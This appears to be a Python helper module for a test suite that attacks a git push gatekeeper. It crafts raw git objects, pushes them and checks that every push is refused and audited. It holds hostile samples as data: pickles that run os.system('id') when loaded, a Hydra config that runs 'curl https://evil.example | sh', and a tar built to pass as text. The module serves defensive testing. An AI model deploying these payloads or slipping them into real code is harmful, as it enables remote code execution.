"""Plumbing for the attack suite: objects crafted byte by byte with git's own tools (``hash-object -w --literally``,
``mktag``, ``commit-tree``, ``update-ref``), pushed with the real client, and the checks every attack ends with: the
push was refused, the ref did not move, the decision was recorded, and ``gatekeeper audit verify`` still passes.

Trees are written with ``hash-object -t tree --literally`` from raw bytes, not ``mktree``: mktree refuses the odd
modes and names an insider would use, receive-pack does not.
"""

from __future__ import annotations

import os
import subprocess
import sys
import tarfile

from gitserver import REPO_ROOT, Clone, PushResult, Server, run_git

# protocol 2: GLOBAL os.system, then REDUCE with ('id',): what `pickle.loads` would run (never unpickled here)
MALICIOUS_PICKLE = b"\x80\x02cos\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03."
HYDRA_SHELL = b"trainer:\n  _target_: os.system\n  _args_: ['curl https://evil.example | sh']\n"


class Crafter:
    """Writes raw objects into a clone's object database and pushes them."""

    def __init__(self, clone: Clone) -> None:
        self.clone = clone

    def _git(self, *args: str, input: bytes | None = None) -> str:
        return run_git(*args, cwd=self.clone.path, input=input).stdout.decode().strip()

    def blob(self, data: bytes) -> str:
        return self._git("hash-object", "-w", "--literally", "-t", "blob", "--stdin", input=data)

    def tree(self, entries: list[tuple[str, bytes, str]]) -> str:
        """A tree from (octal mode as written, raw name, id) entries, in git's tree order unless crafted otherwise."""
        def key(entry: tuple[str, bytes, str]) -> bytes:
            mode, name, _ = entry
            return name + (b"/" if mode.lstrip("0").startswith("4") else b"")

        raw = b"".join(mode.encode() + b" " + name + b"\x00" + bytes.fromhex(oid)
                       for mode, name, oid in sorted(entries, key=key))
        return self._git("hash-object", "-w", "--literally", "-t", "tree", "--stdin", input=raw)

    def tree_with(self, base_commit: str, path: bytes, mode: str, oid: str) -> str:
        """The tree of ``base_commit`` with ``path`` set to (mode, oid), intermediate trees rewritten."""
        base_tree = self._git("rev-parse", f"{base_commit}^{{tree}}")
        return self._set(base_tree, path.split(b"/"), mode, oid)

    def _set(self, tree: str | None, parts: list[bytes], mode: str, oid: str) -> str:
        entries = self._entries(tree) if tree else []
        name = parts[0]
        entries = [e for e in entries if e[1] != name]
        if len(parts) == 1:
            entries.append((mode, name, oid))
        else:
            existing = None
            if tree:
                for m, n, o in self._entries(tree):
                    if n == name and m.startswith("4"):
                        existing = o
            entries.append(("40000", name, self._set(existing, parts[1:], mode, oid)))
        return self.tree(entries)

    def _entries(self, tree: str) -> list[tuple[str, bytes, str]]:
        raw = run_git("cat-file", "tree", tree, cwd=self.clone.path).stdout
        out = []
        while raw:
            sp = raw.index(b" ")
            nul = raw.index(b"\x00", sp)
            out.append((raw[:sp].decode(), raw[sp + 1:nul], raw[nul + 1:nul + 21].hex()))
            raw = raw[nul + 21:]
        return out

    def commit(self, tree: str, *parents: str, message: str = "crafted") -> str:
        args = ["commit-tree", tree, "-m", message]
        for parent in parents:
            args += ["-p", parent]
        return self._git(*args)

    def tag(self, target: str, kind: str, name: str = "t") -> str:
        text = (f"object {target}\ntype {kind}\ntag {name}\n"
                "tagger Test Author <author@example.com> 1700000000 +0000\n\ncrafted\n")
        return self._git("mktag", input=text.encode())

    def commit_with(self, path: bytes, mode: str, oid: str, *, parent: str = "HEAD") -> str:
        base = self._git("rev-parse", parent)
        return self.commit(self.tree_with(base, path, mode, oid), base)

    def push(self, src: str, ref: str, *, force: bool = False) -> PushResult:
        return self.clone.push(f"{'+' if force else ''}{src}:{ref}")


def audit_verify(server: Server) -> subprocess.CompletedProcess[str]:
    """``gatekeeper audit verify`` over the server's log with the install's checkpoint key."""
    pub = server.log.parent / "audit-signing.key.pub"
    args = [sys.executable, "-m", "gatekeeper", "audit", "verify", "--log", str(server.log)]
    if pub.exists():
        args += ["--vkey-file", str(pub)]
    return subprocess.run(args, capture_output=True, text=True, check=False, cwd=REPO_ROOT)


def assert_refused(server: Server, result: PushResult, ref: str, before: str | None, *needles: str) -> dict:
    """The push was refused, the pusher was told why, ``ref`` did not move, the decision is recorded and the log
    still verifies. Returns the decision record."""
    assert not result.ok, result.output
    out = result.remote
    if os.environ.get("ATTACKS_SHOW"):  # ATTACKS_SHOW=1 pytest -s tests/attacks: print what each pusher reads
        print(f"\n--- {ref}\n{out}")
    assert "gatekeeper: push REFUSED" in out, out
    for needle in needles:
        assert needle in out, f"{needle!r} not in:\n{out}"
    assert server.ref(ref) == before, f"{ref} moved"
    decision = server.decisions()[-1]
    assert decision["blocked"] is True and decision["decision"] in ("deny", "error"), decision
    verify = audit_verify(server)
    assert verify.returncode == 0, verify.stdout + verify.stderr
    return decision


def lands_then_refused(server: Server, ref: str, first: dict[str, str | bytes], then: dict[str, str | bytes],
                       *needles: str) -> dict:
    """Push ``first`` (files by path) to ``ref``, which must land, then ``then`` on top, which must be refused with
    ``needles`` (assert_refused): content armed by a later push. Returns the decision record."""
    clone = server.clone()
    for step, files in (("first", first), ("then", then)):
        for path, data in files.items():
            clone.write(path, data)
        clone.commit(step)
        if step == "first":
            assert clone.push(f"HEAD:{ref}").ok
    before = server.ref(ref)
    return assert_refused(server, clone.push(f"HEAD:{ref}"), ref, before, *needles)


def bare_git(server: Server, *args: str) -> str:
    return run_git(*args, cwd=server.bare).stdout.decode().strip()


PRINTABLE_PICKLE = b"cos\nsystem\n(S'id'\ntR."  # protocol 0, all printable: runs os.system("id") when loaded


def printable_tar(member: bytes = b"") -> bytes:
    """A v7 tar (one member) git could store as text: every field printable, the checksum right (tarfile would open
    it), the member right after its header."""
    size = f"{len(member):011o} ".encode()
    fields = [b"#" + b"n" * 99, b"0000644 ", b"0000000 ", b"0000000 ", size, b"00000000000 "]
    block = b"".join(fields) + b" " * 8 + b"0" + b"l" * 100 + b"v" * 8 + b"u" * 64 + b"0000000 " * 2
    block += b"p" * (512 - len(block))
    checksum = sum(block)  # the checksum field counts as spaces
    header = block[:148] + f"{checksum:06o} ".encode() + b" " + block[156:]
    assert "#nnn" in tarfile.TarInfo.frombuf(header, "utf-8", "surrogateescape").name
    return header + member + b"\n" * (-len(member) % 512) + b"more text\n" * 10
